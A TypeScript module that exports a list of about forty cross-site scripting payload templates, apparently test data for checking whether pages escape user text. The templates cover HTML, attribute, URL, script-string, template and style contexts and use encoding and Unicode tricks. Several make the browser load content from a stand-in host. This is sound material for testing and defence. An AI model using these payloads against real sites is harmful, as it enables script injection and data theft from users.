/** A text that would run a script, or fetch from elsewhere, if a page took it for more than a text. */
export interface ScriptPayload {
  kind: string
  /** `call` is the script that it tries to run; it may be written inside quotes of either kind. */
  text(call: string): string
}

/** Whoever of a page asks for something here has taken a text for markup or for a style. */
export const FOREIGN_HOST = 'nnx.invalid'

/** Each breaks out of one place in which a page may put a text: HTML, an attribute, an address, a script, a style. */
export const SCRIPT_PAYLOADS: readonly ScriptPayload[] = [
  { kind: 'image that fails', text: (call) => `<img src=x onerror=${call}>` },
  { kind: 'script', text: (call) => `<script>${call}</script>` },
  { kind: 'end of a data script', text: (call) => `</script><script>${call}</script>` },
  { kind: 'double-quoted attribute', text: (call) => `"autofocus onfocus=${call} x="` },
  { kind: 'single-quoted attribute', text: (call) => `'autofocus onfocus=${call} x='` },
  { kind: 'end of a double-quoted tag', text: (call) => `"><svg/onload=${call}>` },
  { kind: 'end of a single-quoted tag', text: (call) => `'><svg/onload=${call}>` },
  { kind: 'address of a script', text: (call) => `javascript:${call}` },
  { kind: 'address of a script, disguised', text: (call) => ` jAvA\tscript:${call}` },
  { kind: 'address of a page', text: (call) => `data:text/html,<script>parent.${call}</script>` },
  { kind: 'link', text: (call) => `<a href="javascript:${call}" autofocus>x</a>` },
  { kind: 'SVG with a script', text: (call) => `<svg><script>${call}</script></svg>` },
  { kind: 'SVG that begins an animation', text: (call) => `<svg><animate onbegin=${call} dur=1s></svg>` },
  { kind: 'frame of its own', text: (call) => `<iframe srcdoc="<script>parent.${call}</script>">` },
  { kind: 'frame of a script', text: (call) => `<iframe src="javascript:parent.${call}">` },
  { kind: 'details that open', text: (call) => `<details open ontoggle=${call}>` },
  { kind: 'end of a title', text: (call) => `</title><img src=x onerror=${call}>` },
  { kind: 'end of a text area', text: (call) => `</textarea><img src=x onerror=${call}>` },
  { kind: 'end of a style', text: (call) => `</style><img src=x onerror=${call}>` },
  { kind: 'end of a comment', text: (call) => `--><img src=x onerror=${call}>` },
  { kind: 'end of a template', text: (call) => `</template><img src=x onerror=${call}>` },
  {
    kind: 'parsed twice',
    text: (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  },
  { kind: 'MathML', text: (call) => `<math><mtext><style><img src=x onerror=${call}></style>` },
  { kind: 'string of a script, double', text: (call) => `"};${call};//` },
  { kind: 'string of a script, single', text: (call) => `';${call};//` },
  { kind: 'string of a script, escaped', text: (call) => `\\";${call};//` },
  { kind: 'line of a script', text: (call) => `\u2028${call}//` },
  { kind: 'template of a script', text: (call) => `\${${call}}` },
  { kind: 'template of a framework', text: (call) => `{{constructor.constructor('${call}')()}}` },
  { kind: 'JavaScript escapes', text: (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e` },
  { kind: 'HTML entities', text: (call) => `&lt;img src=x onerror=${call}&gt;&#60;script&#62;${call}` },
  { kind: 'per cent escapes', text: (call) => `%3Cimg src=x onerror=${call}%3E` },
  { kind: 'wide brackets', text: (call) => `＜script＞${call}＜/script＞` },
  { kind: 'letters that fold', text: (call) => `<ſcript>${call}</ſcript><ımg src=x onerror=${call}>` },
  { kind: 'a NUL in the tag', text: (call) => `<scr\0ipt>${call}</scr\0ipt>` },
  { kind: 'text that turns round', text: (call) => `\u202e<img src=x onerror=${call}>\u2066` },
  { kind: 'image from elsewhere', text: (call) => `"><img src=//${FOREIGN_HOST}/${call}>` },
  {
    kind: 'style from elsewhere',
    text: (call) => `</style><style>*{background:url(//${FOREIGN_HOST}/${call})}</style>`,
  },
  { kind: 'value of a style', text: (call) => `red;background:url(//${FOREIGN_HOST}/${call})` },
  { kind: 'animation of a style', text: (call) => `"style="animation:spin 1s" onanimationstart="${call}` },
  { kind: 'other base', text: (call) => `<base href=//${FOREIGN_HOST}/${call}/>` },
  { kind: 'refresh', text: (call) => `<meta http-equiv=refresh content="0;url=//${FOREIGN_HOST}/${call}">` },
  { kind: 'markup left open', text: (call) => `"><img src='//${FOREIGN_HOST}/${call}?` },
  { kind: 'object', text: (call) => `<object data="javascript:${call}"><embed src="javascript:${call}">` },
]
